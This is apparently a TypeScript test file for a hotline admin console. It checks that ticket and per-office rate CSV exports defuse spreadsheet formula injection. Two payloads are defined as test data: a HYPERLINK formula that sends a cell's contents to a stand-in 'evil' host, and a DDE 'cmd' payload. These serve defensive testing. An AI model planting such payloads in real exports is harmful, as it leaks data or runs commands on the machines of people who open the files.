// The console's CSV exports are safe to open in Excel or WPS (issue 16): a citizen's text, or an office's name
// sent by the hotline, that a spreadsheet would run as a formula goes out defused with a leading quote, through
// /api/admin/tickets.csv and the report CSV (the rates by office), while counts stay numbers.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';
import { ticketInput } from '../helpers/ticket-input.js';

const HYPERLINK = '+1+HYPERLINK("http://evil/?x="&B2,"open")';
const DDE = "-2+3+cmd|' /C calc'!A0";

let gw: TestGateway;
const get = async (path: string) => {
  const res = await fetch(`${gw.url}${path}`, { headers: { authorization: `Bearer ${gw.adminToken}` } });
  // Bytes as they are: res.text() would drop the byte-order mark.
  return { status: res.status, type: res.headers.get('content-type'), text: Buffer.from(await res.arrayBuffer()).toString('utf8') };
};

/** The first cell of every line and every cell that a spreadsheet would start a formula with. */
const formulaCells = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .flatMap((line) => line.split(','))
    .map((cell) => cell.replace(/^"/, ''))
    .filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r]/.test(cell));

beforeAll(async () => {
  gw = await startTestGateway({ SPIKE_CHECK_MS: '0', RUN_WORKERS: '0' });
  const store = gw.gateway.services.store;
  await store.createFromMessage(ticketInput({ text: HYPERLINK, unit: DDE }));
  await store.createFromMessage(ticketInput({ text: DDE, unit: HYPERLINK }));
  await store.createFromMessage(ticketInput({ text: '＝1+1 全角等号', unit: '卢沟桥街道办事处' }));
});
afterAll(async () => {
  await gw?.stop();
});

describe('CSV exports', () => {
  it('/api/admin/tickets.csv defuses formula cells from citizens and offices', async () => {
    const r = await get('/api/admin/tickets.csv');
    expect(r.status).toBe(200);
    expect(r.type).toMatch(/^text\/csv/);
    expect(r.text.startsWith('\uFEFF工单号,状态,')).toBe(true);
    expect(r.text).toContain(`"'${HYPERLINK.replace(/"/g, '""')}"`);
    expect(r.text).toContain(`'${DDE}`);
    expect(r.text).toContain("'＝1+1 全角等号");
    expect(formulaCells(r.text)).toEqual([]);
  });

  it('the report CSV (rates by office) defuses office names and keeps counts as numbers', async () => {
    // Around today in UTC, whatever the local date in Beijing is now.
    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
    const r = await get(`/api/admin/rates.csv?by=unit&from=${day(-1)}&to=${day(1)}`);
    expect(r.status, r.text).toBe(200);
    expect(r.text).toContain(`'${DDE}`);
    expect(r.text).toContain(`"'${HYPERLINK.replace(/"/g, '""')}"`);
    expect(formulaCells(r.text)).toEqual([]);
  });
});
